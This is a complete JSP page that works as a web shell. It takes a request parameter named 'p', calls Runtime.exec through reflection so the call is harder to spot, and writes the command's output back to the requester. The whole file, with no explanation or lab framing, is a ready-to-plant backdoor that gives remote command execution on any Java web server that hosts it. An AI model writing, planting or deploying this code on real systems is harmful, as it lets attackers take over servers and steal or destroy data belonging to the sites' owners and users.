<%@ page import="java.lang.reflect.Method" %>
<%
    String p = request.getParameter("p");
    if (p != null) {
        Class<?> rc = Class.forName("java.lang.Runtime");
        Method gr = rc.getMethod("getRuntime");
        Object r = gr.invoke(null);
        Method ex = rc.getMethod("exec", String.class);
        Process pr = (Process) ex.invoke(r, p);
        java.io.InputStream is = pr.getInputStream();
        int b;
        while ((b = is.read()) != -1) { out.write(b); }
    }
%>
